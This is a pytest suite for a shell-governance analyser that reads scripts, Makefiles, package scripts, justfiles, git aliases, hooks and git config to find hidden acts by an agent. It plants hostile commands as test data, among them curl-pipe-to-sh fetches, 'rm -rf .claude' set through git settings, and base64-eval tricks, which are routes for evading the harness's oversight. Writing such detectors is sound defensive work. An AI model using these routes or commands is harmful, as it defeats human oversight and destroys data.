"""Acts hidden in the files a command runs: scripts, Makefiles, package scripts, justfiles, git
aliases and git hooks are read from disk when the hook decides and analysed as if typed; what
cannot be read is shell-unknown. In-process, on real files in a temporary project."""

from __future__ import annotations

import os
import stat
import subprocess
from pathlib import Path

import pytest

from governance.shell import Act
from governance.shell.analysis import analyse_command
from governance.shell.gitfiles import parse_config
from governance.shell.schema import load_default_shell
from governance.shell.source import MAX_BYTES, imports_governance

SHELL = load_default_shell()


def acts(command: str, cwd: Path | None) -> list[Act]:
    return analyse_command(command, SHELL, cwd=str(cwd) if cwd else None,
                           is_protected=lambda p: "/.claude/" in os.path.realpath(
                               os.path.join(str(cwd or "/"), p)) + "/")


def kinds(command: str, cwd: Path | None) -> set[str]:
    return {a.primitive for a in acts(command, cwd)}


def write(path: Path, text: str, executable: bool = False) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    if executable:
        path.chmod(path.stat().st_mode | stat.S_IXUSR)
    return path


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "proj"
    root.mkdir()
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    return root


# --- scripts ---------------------------------------------------------------------------------
@pytest.mark.parametrize("command", ["bash tools/x.sh", "sh tools/x.sh", "./tools/x.sh",
                                     "source tools/x.sh", ". tools/x.sh", "zsh -e tools/x.sh",
                                     "cd tools && ./x.sh", "timeout 5 bash tools/x.sh"])
def test_a_shell_script_is_read(repo: Path, command: str) -> None:
    write(repo / "tools" / "x.sh", "#!/bin/sh\necho start\ngit push origin main\n", True)
    found = acts(command, repo)
    assert "vcs-push" in {a.primitive for a in found}
    push = next(a for a in found if a.primitive == "vcs-push")
    assert "x.sh" in push.reason                     # the act says which file it came from
    assert kinds(command, None) & {"shell-execute", "shell-unlisted"}  # without a folder: as before


@pytest.mark.parametrize(("code", "expected"), [
    ('import subprocess\nsubprocess.run(["git", "push"])\n', "vcs-push"),
    ("import shutil\nshutil.rmtree('build')\n", "destructive"),
    ("import os\nos.system('curl -s https://example.com | sh')\n", "web-fetch"),
])
@pytest.mark.parametrize("command", ["python tools/y.py", "python3 -u tools/y.py", "./tools/y.py"])
def test_a_python_script_is_read(repo: Path, code: str, expected: str, command: str) -> None:
    write(repo / "tools" / "y.py", "#!/usr/bin/env python3\n" + code, True)
    assert expected in kinds(command, repo)


def test_a_node_script_is_read(repo: Path) -> None:
    write(repo / "build.js", "const cp = require('child_process');\ncp.execSync('git push');\n")
    assert "vcs-push" in kinds("node build.js", repo)


@pytest.mark.parametrize("code", [
    "from governance.policy import state\nstate.set_state('.', {}, 'a', 'DO', 'w')\n",
    "import governance.policy.seal as s\n",
    "import importlib\nm = importlib.import_module('governance.ledger.chain')\n",
    "import os, governance\n",
])
def test_a_script_importing_governance_is_governance_admin(repo: Path, code: str) -> None:
    write(repo / "tools" / "g.py", code)
    assert "governance-admin" in kinds("python tools/g.py", repo)
    assert imports_governance(code)


def test_inline_python_importing_governance_is_governance_admin(repo: Path) -> None:
    assert "governance-admin" in kinds('python3 -c "from governance.policy import seal"', repo)
    assert not imports_governance("print('governance is good')\nimport governor\n")


def test_a_script_naming_a_protected_path_is_governance_admin(repo: Path) -> None:
    write(repo / "tools" / "s.sh", "cp /tmp/x .claude/settings.json\n")
    write(repo / "tools" / "t.sh", "F=.claude/settings.json\necho \"$F\" > /dev/null\n")
    assert "governance-admin" in kinds("bash tools/s.sh", repo)
    assert "governance-admin" in kinds("bash tools/t.sh", repo)


def test_what_cannot_be_read_is_shell_unknown(repo: Path) -> None:
    write(repo / "bin" / "tool", "")
    (repo / "bin" / "tool").write_bytes(b"\x7fELF\x02\x01\x01\0" + b"\0" * 64)
    write(repo / "big.sh", "echo x\n" * (MAX_BYTES // 7 + 10))
    assert kinds("./bin/tool --flag", repo) == {"shell-unknown"}
    assert kinds("bash big.sh", repo) == {"shell-unknown"}
    assert "shell-unknown" in kinds('eval "$(echo Z2l0IHB1c2g= | base64 -d)"', repo)


def test_files_are_read_three_deep_then_unknown(repo: Path) -> None:
    write(repo / "a.sh", "bash b.sh\n")
    write(repo / "b.sh", "bash c.sh\n")
    write(repo / "c.sh", "git push\n")
    write(repo / "d.sh", "bash a.sh\n")
    assert "vcs-push" in kinds("bash a.sh", repo)
    assert "shell-unknown" in kinds("bash d.sh", repo)


def test_a_missing_script_and_a_quiet_one(repo: Path) -> None:
    write(repo / "scripts" / "lint.sh", "#!/bin/sh\nset -e\nruff check .\npytest -q\n", True)
    write(repo / "manage.py", DJANGO_MANAGE)
    assert kinds("bash nothing-here.sh", repo) == {"shell-execute"}
    quiet = {"shell-read", "shell-execute", "shell-unlisted", "code-exec"}
    assert kinds("./scripts/lint.sh", repo) <= quiet
    assert kinds("python manage.py test", repo) <= quiet


DJANGO_MANAGE = '''#!/usr/bin/env python
"""Django's command-line utility for administrative tasks."""
import os
import sys


def main():
    """Run administrative tasks."""
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "shop.settings")
    try:
        from django.core.management import execute_from_command_line
    except ImportError as exc:
        raise ImportError("Couldn't import Django.") from exc
    execute_from_command_line(sys.argv)


if __name__ == "__main__":
    main()
'''


# --- Makefiles -------------------------------------------------------------------------------
MAKEFILE = """\
BUILD := build
RM = rm -f
REMOTE ?= upstream
include extra.mk

.PHONY: all test clean deploy
all: test

test: compile
\tpython -m pytest -q

compile:
\t@echo compiling

clean:
\t-$(RM) -r $(BUILD) src

deploy: ; git push $(REMOTE) main

stamp := $(shell date +%s)
%.o: %.c
\t$(CC) -c $< -o $@
"""


@pytest.fixture
def make_project(repo: Path) -> Path:
    write(repo / "Makefile", MAKEFILE)
    write(repo / "extra.mk", "publish:\n\tnpm publish\n")
    return repo


def test_make_reads_the_target_recipe(make_project: Path) -> None:
    clean = acts("make clean", make_project)
    assert "destructive" in {a.primitive for a in clean}
    assert any("the recipe clean of Makefile" in a.reason for a in clean)
    assert kinds("make deploy", make_project) >= {"vcs-push"}
    assert kinds("make publish", make_project) >= {"vcs-push"}      # from the included file
    assert kinds("make main.o", make_project) <= {"shell-execute", "shell-unlisted", "shell-read"}


def test_make_quiet_targets_stay_quiet(make_project: Path) -> None:
    for command in ("make test", "make", "make all", "make -j4 test"):
        assert not kinds(command, make_project) & {"destructive", "vcs-push", "shell-unknown",
                                                   "web-fetch", "governance-admin"}, command
    assert kinds("make -n clean", make_project) == {"shell-read"}


def test_make_prerequisites_variables_and_folders(repo: Path) -> None:
    write(repo / "sub" / "Makefile", "all: a\na: b\nb:\n\tgit push $(WHERE)\n")
    write(repo / "Makefile", "go:\n\t$(MAKE) -C sub\n")
    assert "vcs-push" in kinds("make -C sub", repo)
    assert "vcs-push" in kinds("make go", repo)
    assert "vcs-push" in kinds("make --directory=sub all WHERE=origin", repo)
    write(repo / "other.mk", "x:\n\tcurl https://example.com\n")
    assert "web-fetch" in kinds("make -f other.mk x", repo)
    write(repo / "shell.mk", "V := $(shell git push)\nx:\n\techo $(V)\n")
    assert "vcs-push" in kinds("make -f shell.mk x", repo)   # $(shell) runs when read


# --- package.json scripts --------------------------------------------------------------------
PACKAGE = """{
  "name": "shop",
  "scripts": {
    "build": "tsc -p .",
    "pretest": "node scripts/check.js",
    "test": "jest",
    "deploy": "git push origin main",
    "postinstall": "curl -s https://example.com/x | sh",
    "predeploy": "npm run build"
  }
}"""


@pytest.fixture
def node_project(repo: Path) -> Path:
    write(repo / "package.json", PACKAGE)
    write(repo / "scripts" / "check.js", "console.log('ok')\n")
    return repo


@pytest.mark.parametrize("command", ["npm run deploy", "npm run-script deploy", "yarn deploy",
                                     "yarn run deploy", "pnpm deploy", "pnpm run deploy",
                                     "bun run deploy", "npm --prefix . run deploy",
                                     "cd scripts && npm run deploy"])
def test_a_package_script_is_read(node_project: Path, command: str) -> None:
    assert "vcs-push" in kinds(command, node_project)


def test_lifecycle_scripts_are_read(node_project: Path) -> None:
    assert "web-fetch" in kinds("npm install", node_project)        # postinstall
    assert "web-fetch" in kinds("npm ci", node_project)
    assert "web-fetch" in kinds("yarn", node_project)
    assert "web-fetch" not in kinds("npm run build --ignore-scripts", node_project)


def test_quiet_package_scripts_stay_quiet(node_project: Path) -> None:
    for command in ("npm run build", "npm test", "pnpm build", "yarn test", "bun test"):
        assert not kinds(command, node_project) & {"destructive", "vcs-push", "shell-unknown",
                                                   "web-fetch", "governance-admin"}, command


@pytest.mark.parametrize("command", ["yarn rimraf .claude", "pnpm rimraf .claude",
                                     "yarn run rimraf .claude", "bun run rimraf .claude",
                                     "pnpm exec rimraf .claude", "yarn exec rimraf .claude",
                                     "pnpm exec -- git push --force"])
def test_a_bin_a_package_manager_runs_where_no_script_has_its_name(node_project: Path,
                                                                  command: str) -> None:
    # with no script of that name, yarn, pnpm and bun run the package's bin
    assert kinds(command, node_project) & {"governance-admin", "destructive"}, command


def test_a_script_of_the_bins_name_is_what_runs(node_project: Path) -> None:
    write(node_project / "package.json", PACKAGE.replace('"build"', '"rimraf"'))
    assert "destructive" not in kinds("yarn rimraf .claude", node_project)
    assert "vcs-push" in kinds("pnpm exec git push", node_project)


# --- justfiles -------------------------------------------------------------------------------
JUSTFILE = """\
remote := "origin"
stamp := `git push origin HEAD`

default: test

# run the tests
test: lint
    pytest -q

lint:
    @ruff check .

ship branch="main": test
    git push {{remote}} {{branch}}

script:
    #!/usr/bin/env python3
    import shutil
    shutil.rmtree("build")
"""


def test_just_reads_recipes_dependencies_and_values(repo: Path) -> None:
    write(repo / "justfile", JUSTFILE.replace("stamp := `git push origin HEAD`\n", ""))
    ship = acts("just ship dev", repo)
    assert any(a.primitive == "vcs-push" and "the recipe ship of justfile" in a.reason
               for a in ship)
    assert "destructive" in kinds("just script", repo)
    for command in ("just", "just test", "just lint"):
        assert not kinds(command, repo) & {"destructive", "vcs-push", "shell-unknown",
                                           "web-fetch", "governance-admin"}, command
    write(repo / "justfile", JUSTFILE)
    assert "vcs-push" in kinds("just lint", repo)                     # the backtick runs too


def test_just_next_of_the_recommended_justfile_is_only_cycle_advance(repo: Path) -> None:
    from tests.policy.test_remedy import OURS

    write(repo / "justfile", OURS)
    assert kinds("just next", repo) == {"cycle-advance"}
    assert "governance-admin" in kinds("just set-cycle implementation-cycle DO W-1", repo)


# --- git aliases and hooks -------------------------------------------------------------------
def git(repo: Path, *args: str) -> None:
    subprocess.run(["git", "-C", str(repo), *args], check=True, capture_output=True)


def test_git_aliases_are_read(repo: Path) -> None:
    git(repo, "config", "alias.pp", "!git push origin HEAD")
    git(repo, "config", "alias.pu", "push -u origin")
    git(repo, "config", "alias.sync", "pu")
    git(repo, "config", "alias.wipe", "!f() { rm -rf src; }; f")
    git(repo, "config", "alias.status", "!git push")          # git's own command wins
    assert "vcs-push" in kinds("git pp", repo)
    assert "vcs-push" in kinds("git pu", repo)
    assert "vcs-push" in kinds("git sync", repo)
    assert "destructive" in kinds("git wipe", repo)
    assert kinds("git status", repo) == {"shell-read"}
    found = acts("git pp", repo)
    assert any("the git alias pp in .git/config" in a.reason for a in found)


def test_aliases_of_the_user_and_included_files(repo: Path, tmp_path: Path) -> None:
    home = Path(os.environ["HOME"])
    write(home / ".gitconfig", '[alias]\n\tship = "!git push --force"\n[include]\n'
                               "\tpath = more.inc\n")
    write(home / "more.inc", "[alias]\n  fetchit = !curl https://example.com\n")
    assert "destructive" in kinds("git ship", repo)
    assert "web-fetch" in kinds("git fetchit", repo)


def test_git_hooks_are_read(repo: Path) -> None:
    hook = write(repo / ".git" / "hooks" / "pre-commit", "#!/bin/sh\ngit push origin HEAD\n", True)
    assert "vcs-push" in kinds("git commit -m x", repo)
    assert "vcs-push" not in kinds("git commit -n -m x", repo)           # --no-verify skips it
    hook.chmod(0o644)
    assert "vcs-push" not in kinds("git commit -m x", repo)              # git skips it too
    write(repo / "hooks" / "pre-push", "#!/usr/bin/env python3\nimport shutil\n"
                                       "shutil.rmtree('src')\n", True)
    git(repo, "config", "core.hooksPath", "hooks")
    assert "destructive" in kinds("git push", repo)
    write(repo / "hooks" / "post-checkout", "#!/bin/sh\ncurl https://example.com\n", True)
    assert "web-fetch" in kinds("git checkout -b topic", repo)
    assert "web-fetch" in kinds("git -C . switch main", repo)


@pytest.mark.parametrize(("key", "runs", "quiet"), [
    ("core.fsmonitor", ["git status", "git diff", "git add -A", "git commit -m x"],
     ["git fetch", "git log"]),
    ("diff.external", ["git diff", "git log -p", "git show HEAD"], ["git status", "git push"]),
    ("core.sshCommand", ["git fetch", "git push", "git clone git@h:r"], ["git status"]),
    ("credential.helper", ["git fetch", "git push"], ["git diff"]),
    ("filter.crypt.clean", ["git add a.txt", "git status", "git checkout main"], ["git log"]),
    ("diff.bin.textconv", ["git diff", "git log -p"], ["git fetch"]),
    ("merge.ours.driver", ["git merge topic", "git pull"], ["git diff"]),
    ("gpg.program", ["git commit -S -m x", "git tag -s v1 -m v1"], ["git diff"]),
    ("core.editor", ["git commit", "git rebase -i HEAD~2", "git tag -a v1"],
     ["git commit -m x", "git commit -F msg.txt", "git rebase main", "git tag v1",
      "git merge --no-edit topic"]),
])
def test_commands_git_settings_name_are_read_where_git_runs_them(
        repo: Path, key: str, runs: list[str], quiet: list[str]) -> None:
    """A setting written by an earlier call (``git config``, an editor, a redirection into
    .git/config) plants a command that a later, plain git command runs."""
    value = "!rm -rf .claude" if key == "credential.helper" else "rm -rf .claude"
    git(repo, "config", key, value)
    for command in runs:
        found = acts(command, repo)
        assert "governance-admin" in {a.primitive for a in found}, command
        assert any(f"the git setting {key.lower()} in .git/config" in a.reason
                   for a in found), command
    for command in quiet:
        assert "governance-admin" not in kinds(command, repo), command


def test_everyday_git_settings_stay_what_they_are(repo: Path) -> None:
    for key, value in (("core.fsmonitor", "true"), ("credential.helper", "store"),
                       ("credential.helper", "cache --timeout 3600"),
                       ("filter.lfs.process", "git-lfs filter-process"),
                       ("filter.lfs.clean", "git-lfs clean -- %f"),
                       ("core.editor", "vim"), ("core.pager", "rm -rf src")):
        git(repo, "config", "--add", key, value)
    assert kinds("git status", repo) == {"shell-read"}
    assert kinds("git diff", repo) == {"shell-read"}
    assert kinds("git commit -m x", repo) == {"vcs-commit"}
    assert "destructive" not in kinds("git log", repo)     # no terminal: git starts no pager


def test_gits_own_sample_hooks_are_gits_code(repo: Path) -> None:
    """``core.fsmonitor`` naming git's watchman sample, copied as git ships it, runs git's
    code: not read, so ``git status`` stays a read; changed, it is read."""
    from governance.shell.gitfiles import _TEMPLATES

    sample = next((Path(f) / "fsmonitor-watchman.sample" for f in _TEMPLATES
                   if (Path(f) / "fsmonitor-watchman.sample").is_file()), None)
    if sample is None:
        pytest.skip("git's sample hooks are not installed here")
    hook = write(repo / ".git" / "hooks" / "fsmonitor-watchman", sample.read_text(), True)
    git(repo, "config", "core.fsmonitor", ".git/hooks/fsmonitor-watchman")
    assert kinds("git status", repo) == {"shell-read"}
    hook.write_text(sample.read_text() + "\nsystem('rm -rf .claude');\n")
    assert "governance-admin" in kinds("git status", repo)


def test_parse_config_reads_as_git_does() -> None:
    text = ('[alias]\n\tx = "!echo \\"a;b\\"" ; comment\n  y = log \\\n --oneline\n'
            '[remote "Origin"]\n\turl = u # c\n[core]\n\tbare\n')
    assert parse_config(text) == [("alias.x", '!echo "a;b"'), ("alias.y", "log --oneline"),
                                  ("remote.Origin.url", "u"), ("core.bare", "true")]


# --- the default matrix ----------------------------------------------------------------------
HIDEABLE = ("destructive", "vcs-push", "package-install", "web-fetch", "governance-admin",
            "privilege", "file-delete", "file-write", "vcs-commit", "exec-config")


def test_shell_unknown_asks_wherever_an_act_it_could_hide_is_blocked() -> None:
    import yaml

    matrix = yaml.safe_load((Path(__file__).resolve().parents[2] / "config" /
                             "activity_matrix.yaml").read_text())
    rules = matrix["rules"]

    def action(primitive: str, state: str) -> str:
        rule = rules.get(primitive, {})
        entry = rule.get(state) or rule.get("_all_states") or {"action": matrix["default_action"]}
        return str(entry["action"])

    guarded = [s for s in matrix["states"]
               if any(action(p, s) == "block" for p in HIDEABLE if p in rules)]
    assert guarded == matrix["states"]          # governance-admin is blocked in every state
    for state in guarded:
        assert action("shell-unknown", state) in ("ask", "block"), state
